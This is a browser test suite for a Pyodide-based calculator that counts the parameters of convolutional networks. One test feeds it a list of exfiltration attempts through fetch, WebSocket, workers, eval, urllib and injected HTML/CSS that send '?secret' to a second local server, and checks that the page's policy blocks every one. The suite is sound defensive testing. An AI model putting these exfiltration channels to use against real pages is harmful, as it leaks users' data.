"""The calculator in a browser: what is written there is counted there, and stays there."""

import gzip
import json
import zipfile
from pathlib import Path

import pytest
from onnx_files import stored
from yolo_texts import TEXTS

from cnncalc import Sequential, load, zoo

ROOT = Path(__file__).parents[2]
BUILT = ROOT / "build" / "docs" / "calculator"
VIEWS = [(1400, "light"), (1400, "dark"), (400, "light"), (400, "dark")]
LOOP = "while True:\n    pass"


@pytest.fixture
def calculator(visit, serve):
    """Give a function that opens the calculator, and returns its page."""
    if not (BUILT / "index.html").exists():
        pytest.skip("needs python docs/calculator/build.py build/docs/calculator")

    def opened(link="", place=None, **how):
        page = visit(place or f"{serve(BUILT)}index.html{link}", **how)
        page.set_default_timeout(120_000)
        page.locator("body[data-calculated]").wait_for()
        return page

    return opened


def write(page, source):
    """Write a source, and wait until it was calculated."""
    page.locator("#source").fill(source)
    calculated(page, source)


def calculated(page, source):
    """Wait until the page says that this is what it has calculated."""
    for sign, escaped in {"\\": r"\\", '"': r"\"", "\n": r"\a "}.items():
        source = source.replace(sign, escaped)
    page.locator(f'body[data-calculated="{source}"]').wait_for()


def shown(page, name):
    """Return what stands beside a name among the totals."""
    return page.locator(f"#totals div:has(dt:text-is('{name}')) dd").inner_text()


def params(page):
    return int(shown(page, "Total params").replace(",", ""))


def complaint(page):
    return page.locator("#error").inner_text()


def test_networks_are_counted(calculator):
    """LeNet is what was drawn when the page was built; ResNet-50 has all its parts."""
    page = calculator()

    assert params(page) == zoo.lenet().params
    assert "" == complaint(page)
    write(page, "zoo.resnet50()")
    page.locator("#table tbody tr[data-node='0'] button").hover()
    page.locator("#arithmetic details").wait_for()
    rows = page.locator("#table tbody tr[data-node]:not(.cnncalc-group)")

    assert params(page) == zoo.resnet50().params
    assert rows.count() == len(zoo.resnet50().nodes)
    assert page.locator("#drawing svg").count() == 1
    assert page.locator("#chart-0 [data-node]").count() > 50
    assert "9,408" in page.locator("#arithmetic").inner_text()  # 7×7×3×64 weights


ERRORS = [
    ("net = Sequential(input=(8, 8, 3))\nnet.conv(9, 4)", 2, "conv1: Conv2d on 8×8×3"),
    ("width = 3\nnet = Sequential(", 2, "SyntaxError: '(' was never closed"),
    ("1\n\n1 / 0", 3, "ZeroDivisionError: division by zero"),
    ("import os\nos.fork()", 2, "OSError"),
    ("input()", 1, "EOFError"),
    ("Sequential(input=(8, 8, 3)).cnv(3, 4)", 1, "The nearest: net.conv(3, 64)"),
    ("print(2)", None, "there is no network here. End with one"),
    ("Sequential().conv(3, 4)", None, "it has no input shape yet"),
]


def test_an_error_stands_on_its_line(calculator):
    """What is wrong is said, with its line; what was shown before stays."""
    page = calculator()
    for source, line, words in ERRORS:
        write(page, source)

        assert words in complaint(page)
        assert (f"Line {line}: " in complaint(page)) == bool(line)
        marked = page.locator("#numbers mark").all_text_contents()
        assert [f"{line}\n"] * bool(line) == marked
        assert params(page) == zoo.lenet().params

    write(page, "print('six times', 7)\nzoo.lenet()")
    assert "six times 7" == page.locator("#printed").inner_text().strip()
    assert "" == complaint(page)


DEADLY = {
    LOOP: "took more than 10 seconds",
    "import json\njson.loads('[' * 100_000)": "started anew",
    "import builtins\nbuiltins.len = None": "started anew",
}


def test_python_is_started_anew(calculator, complaints):
    """A loop without end is stopped; what kills Python too. The next text is counted."""
    page = calculator()
    for source, words in DEADLY.items():
        write(page, source)

        assert words in complaint(page)

    page.locator("#table tbody tr[data-node='1'] button").hover()
    page.locator("#arithmetic details").wait_for()
    write(page, "zoo.alexnet()")

    assert params(page) == zoo.alexnet().params
    assert "Pyodide has suffered a fatal error" in complaints[0]
    complaints.clear()


def test_a_link_holds_the_network(calculator):
    """Who opens it sees the network, and its text."""
    source = 'net = Sequential(input=(9, 9, 2), name="größer")\nnet = net.conv(3, 4)'
    page = calculator()
    write(page, source)
    other = calculator(place=page.url)

    assert source == other.locator("#source").input_value()
    assert params(other) == Sequential(input=(9, 9, 2)).conv(3, 4).params


def test_a_link_that_is_not_whole_is_said(calculator):
    """What cannot be read is no network, and harms nothing."""
    page = calculator("#AAAA")

    assert "This link is not whole" in page.locator("#source").input_value()
    assert "there is no network here" in complaint(page)


def test_an_example_is_chosen(calculator):
    """Each example is counted, and so is a network of the zoo."""
    page = calculator()
    examples = page.locator("#example optgroup").first.locator("option")
    for option in [*examples.all(), page.locator("#example option").last]:
        source = option.get_attribute("value")
        page.locator("#example").select_option(value=source)
        calculated(page, source)

        assert "" == complaint(page)

    assert (
        len(zoo.names())
        == page.locator("#example optgroup").last.locator("option").count()
    )


EXPORTS = {
    "json": zoo.lenet().to_json(),
    "py": zoo.lenet().to_python(),
    "svg": zoo.lenet().draw().to_svg(),
    "csv": zoo.lenet().summary().to_csv(),
    "html": zoo.lenet().report().to_html(),
}


def test_it_can_be_taken_along(calculator):
    """A file in each format is what the library writes here."""
    page = calculator()
    write(page, "zoo.lenet()")
    for suffix, text in EXPORTS.items():
        with page.expect_download() as download:
            page.locator(f"[data-export={suffix}]").click()
        got = Path(download.value.path()).read_text(encoding="utf-8")

        assert f"lenet.{suffix}" == download.value.suggested_filename
        end = "<script" if suffix == "html" else "\0"  # zlib packs as it likes
        assert text.partition(end)[0] == got.partition(end)[0]


def test_symbols_stay(calculator):
    """A network on symbols is shown in expressions; what has none is refused in words."""
    page = calculator()
    write(page, 'Sequential(input=("H", "W", 3)).conv(3, 8)')
    page.locator("#table tbody button").first.hover()
    page.locator("#arithmetic math").first.wait_for()

    assert "216·H·W - 432·H - 432·W + 864" == shown(page, "MACs")
    assert page.locator("#drawing svg, #chart-0 svg").count() == 0
    page.locator("[data-export=json]").click()
    page.locator("#error:has-text('symbols are not saved')").wait_for()
    assert "Traceback" not in complaint(page)


def test_an_address_that_stays_stops_nothing(calculator):
    """A browser may refuse to write it again so soon; the next text is counted."""
    page = calculator()
    refuse = "() => { history.replaceState = () => { throw new Error(); }; }"
    page.evaluate(refuse)
    for net in ("alexnet", "lenet5"):
        write(page, f"zoo.{net}()")

        assert params(page) == zoo.build(net).params
        assert "no link" in page.locator("#state").inner_text()


def read(name):
    return json.loads(
        gzip.decompress((ROOT / f"tests/data/{name}.json.gz").read_bytes())
    )


@pytest.fixture
def models(tmp_path):
    """Give a file of each format that is read."""
    onnx, keras, yolo = (tmp_path / f"net.{kind}" for kind in ("onnx", "keras", "yaml"))
    onnx.write_bytes(stored("cbam"))
    yolo.write_text(TEXTS["plain"], "utf-8")
    with zipfile.ZipFile(keras, "w") as archive:
        archive.writestr("config.json", json.dumps(read("keras")["lenet"]["config"]))
    return [onnx, keras, yolo, ROOT / "tests/data/tflite/n11_i8.tflite"]


def test_a_file_is_counted_where_it_is(calculator, serve, models):
    """A model that is opened is read by its content, and nothing is sent."""
    asked = []
    page = calculator(place=f"{serve(BUILT, asked)}index.html")
    before = len(asked)
    for path in models:
        page.locator("#file").set_input_files(path)
        calculated(page, f'load("{path.name}")')

        assert "" == complaint(page)
        assert params(page) == load(path).params

    assert [] == asked[before:]


def test_a_file_is_dropped(calculator, models):
    """Dropping does what opening does; and a Python that is started anew has the file."""
    page = calculator()
    path = models[-1]
    data = page.evaluate_handle(
        """([name, bytes]) => {
            const data = new DataTransfer();
            data.items.add(new File([new Uint8Array(bytes)], name));
            return data;
        }""",
        [path.name, list(path.read_bytes())],
    )
    page.locator("body").dispatch_event("drop", {"dataTransfer": data})
    source = f'load("{path.name}")'
    calculated(page, source)
    write(page, LOOP)
    write(page, f"{source}  # again")

    assert "" == complaint(page)
    assert params(page) == load(path).params


# Each sends a letter to another server, or tries to.
WAYS_OUT = {
    "fetch": "import js\njs.fetch('{}?secret')",
    "XMLHttpRequest": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', '{}?secret', False)\nx.send()",
    "WebSocket": "import js\njs.WebSocket.new('{}?secret'.replace('http', 'ws'))",
    "EventSource": "import js\njs.EventSource.new('{}?secret')",
    "importScripts": "import js\njs.importScripts('{}?secret')",
    "import()": "from pyodide.code import run_js\nrun_js('import(\"{}?secret\")')",
    "eval": "from pyodide.code import run_js\nrun_js('eval(\"fetch(`{}?secret`)\")')",
    "worker": "import js\njs.Worker.new('{}?secret')",
    "worker of ours": """
from pyodide.code import run_js
run_js('''
  const worker = new Worker("/worker.js");
  const files = { "pyodide.mjs": "{}?secret", "lock.json": "{}?secret" };
  worker.postMessage({ id: 0, files, calls: "os", call: "getcwd", args: [] });
''')""",
    "worker from a blob": """
from pyodide.code import run_js
run_js('''
  const code = "fetch('{}?secret').catch(() => 0)";
  new Worker(URL.createObjectURL(new Blob([code])))
''')""",
    "urllib": "import urllib.request\nurllib.request.urlopen('{}?secret')",
    "markup": """
import js, json
from pyodide.ffi import to_js
left = '<meta http-equiv="refresh" content="0;url={}?secret"><a href="{}">more</a>'
left += '<img src="{}?secret"><svg><image href="{}?secret"/></svg>'
left += '<form action="{}"><input></form><iframe src="{}?secret"></iframe>'
left += '<link rel="prefetch" href="{}?secret"><style>@import "{}?secret";</style>'
left += '<p style="background: url({}?secret)" onclick="fetch()">left</p>'
value = json.dumps(dict(title=left, totals=left, table='<table><tbody></tbody></table>', ms=1))
for number in range(100):
    message = dict(id=number, value=value)
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
""",
}


def test_nothing_gets_out(calculator, serve, complaints, tmp_path):
    """What a link runs reaches no other server, whichever way it takes."""
    heard = []
    elsewhere = serve(tmp_path, heard)
    page = calculator()
    for way, source in WAYS_OUT.items():
        write(page, source.replace("{}", elsewhere))
        write(page, f"net = zoo.alexnet()\n# after {way}")

        assert [] == heard, way
        assert not page.url.startswith(elsewhere), way

    strangers = page.locator(
        "#read :is(meta, a, img, image, form, iframe, link, style:not(svg *))"
    )
    assert strangers.count() == 0
    assert complaints  # the browser says what it refused
    complaints.clear()


def test_the_other_server_can_be_heard(serve, visit, tmp_path, complaints):
    """A page without a policy reaches it: what is tried above would be seen."""
    heard = []
    elsewhere = serve(tmp_path, heard)
    (tmp_path / "page.html").write_text("<script>fetch('/?secret')</script>")
    page = visit(f"{elsewhere}page.html")
    page.wait_for_load_state("networkidle")
    complaints.clear()

    assert "/?secret" in heard


def test_one_file_runs_from_a_disk(calculator, complaints):
    """`cnncalc.html` counts without a server, and a link to it holds the network."""
    page = calculator(place=(BUILT / "cnncalc.html").as_uri())
    write(page, "zoo.resnet18()")

    assert params(page) == zoo.resnet18().params
    assert "#" in page.url


def test_everybody_can_use_it(calculator, violations, sideways):
    """No rule of axe's is broken, with arithmetic or an error; the page fits."""
    page = calculator()
    page.locator("#table tbody tr[data-node] button").first.focus()
    page.locator("#arithmetic details").wait_for()
    for source in (
        "net = zoo.googlenet()",
        f"print('long ' * 99)\nx = '{'x' * 99}'\n1 / 0",
    ):
        write(page, source)
        for width, scheme in VIEWS:
            page.set_viewport_size({"width": width, "height": 900})
            page.emulate_media(color_scheme=scheme)

            assert [] == violations(page)
            assert sideways(page) == 0
